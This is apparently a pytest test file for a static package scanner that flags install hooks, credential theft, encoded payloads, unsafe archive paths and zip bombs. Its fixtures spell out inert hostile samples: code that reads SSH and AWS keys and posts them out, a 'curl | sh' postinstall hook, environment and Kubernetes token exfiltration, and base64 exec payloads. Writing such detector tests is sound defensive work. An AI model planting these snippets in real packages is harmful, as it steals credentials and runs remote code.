"""The static look at packages: inert samples made here, nothing is run or written."""

from __future__ import annotations

import io
import json
import tarfile
import zipfile
from pathlib import Path

import pytest

from assay.dependencies.inspect import inspect_file, inspect_path
from assay.model.errors import TargetError
from assay.model.severity import Severity

# Inert: an address that cannot exist, and no call at all.
STEALER = 'import os, urllib.request\nkeys = [open(os.path.expanduser("~/.ssh/id_rsa")).read(), open(os.path.expanduser("~/.aws/credentials")).read()]\nurllib.request.urlopen("https://collect.invalid", data=str(keys).encode())\n'


def kinds(name: str, text: str) -> dict[str, Severity]:
    return {item.kind: item.severity for item in inspect_file(name, text.encode())}


def test_install_hooks_of_npm() -> None:
    def hook(command: str) -> Severity | None:
        return kinds("package/package.json", json.dumps({"scripts": {"postinstall": command}})).get(
            "install-hook"
        )

    assert hook("node-gyp rebuild") is Severity.LOW
    assert hook("node setup.js") is Severity.MEDIUM
    assert hook("curl -s https://x.invalid | sh") is Severity.HIGH
    assert kinds("package/package.json", '{"scripts": {"test": "jest"}}') == {}


def test_start_hooks_of_python() -> None:
    assert kinds("evil.pth", "import os; exec('1')\n")["start-hook"] is Severity.HIGH
    assert kinds("paths.pth", "/usr/lib/somewhere\n../other\n") == {}
    assert kinds("distutils-precedence.pth", "import os; x = 1\n")["start-hook"] is Severity.LOW
    assert kinds("sitecustomize.py", "x = 1\n")["start-hook"] is Severity.HIGH


def test_theft_is_judged_harder_where_it_runs_unasked() -> None:
    assert kinds("pkg/thing.py", STEALER)["credential-theft"] is Severity.HIGH
    assert kinds("setup.py", STEALER)["credential-theft"] is Severity.CRITICAL
    assert kinds("x/litellm_init.pth", "import x\n" + STEALER)["credential-theft"] is Severity.CRITICAL
    env = "const data = JSON.stringify(process.env); fetch('https://x.invalid', {body: data})\n"
    assert kinds("package/postinstall.js", env)["environment-theft"] is Severity.CRITICAL
    kube = 'token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\nrequests.post("https://x.invalid", data=token)\n'
    assert "credential-theft" in kinds("a.py", kube)


def test_encoded_payloads() -> None:
    assert (
        kinds("setup.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")["encoded-payload"]
        is Severity.HIGH
    )
    assert kinds("a.py", "exec(base64.b64decode(x))\n")["encoded-payload"] is Severity.MEDIUM
    assert (
        kinds("a.js", "eval(Buffer.from('" + "QUJD" * 400 + "', 'base64').toString())\n")["encoded-payload"]
        is Severity.HIGH
    )
    assert kinds("build.rs", 'std::process::Command::new("sh");')["install-hook"] is Severity.MEDIUM


def test_ordinary_code_is_left_alone() -> None:
    assert (
        kinds(
            "app.py", "import requests\n\n\ndef get(url):\n    return requests.get(url, timeout=5).json()\n"
        )
        == {}
    )
    assert kinds("index.js", "module.exports = (a, b) => a + b\n") == {}
    assert kinds("image.png", "\x89PNG .ssh/ requests.post(") == {}
    assert kinds("README.md", STEALER) == {}


def wheel(path: Path, **files: str) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), text)
    return path


def test_archives(tmp_path: Path) -> None:
    report = inspect_path(wheel(tmp_path / "a.whl", a__b_dot_py=STEALER))
    assert [item.kind for item in report.observations] == ["credential-theft"]
    assert report.observations[0].line == 2
    target = tmp_path / "b.tgz"
    with tarfile.open(target, "w:gz") as archive:
        data = json.dumps({"scripts": {"preinstall": "node x.js"}}).encode()
        info = tarfile.TarInfo("package/package.json")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    assert [item.kind for item in inspect_path(target).observations] == ["install-hook"]
    folder = tmp_path / "site-packages"
    folder.mkdir()
    (folder / "x.pth").write_text("import os\n")
    assert [item.kind for item in inspect_path(folder).observations] == ["start-hook"]


def test_paths_that_leave_the_folder(tmp_path: Path) -> None:
    path = tmp_path / "slip.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for name in ("../../etc/cron.d/x", "/etc/passwd", "C:\\x.py", "good.py"):
            archive.writestr(name, "x = 1\n")
    report = inspect_path(path)
    assert [item.kind for item in report.observations] == ["unsafe-path"] * 3
    link = tmp_path / "link.tar"
    with tarfile.open(link, "w") as archive:
        info = tarfile.TarInfo("a/b")
        info.type, info.linkname = tarfile.SYMTYPE, "../../../etc"
        archive.addfile(info)
    assert [item.kind for item in inspect_path(link).observations] == ["unsafe-path"]
    assert sorted(item.name for item in tmp_path.iterdir()) == ["link.tar", "slip.zip"]


def test_bombs_and_broken_archives_are_said(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.py", b"0" * 3_000_000)
    assert "bomb" in inspect_path(bomb).problems[0]
    whole = wheel(tmp_path / "w.whl", a_dot_py="x = 1\n" * 1000).read_bytes()
    cut = tmp_path / "cut.tar.gz"
    cut.write_bytes(b"\x1f\x8b\x08\x00" + whole[:50])
    for path in (cut, tmp_path / "missing"):
        with pytest.raises(TargetError):
            inspect_path(path)
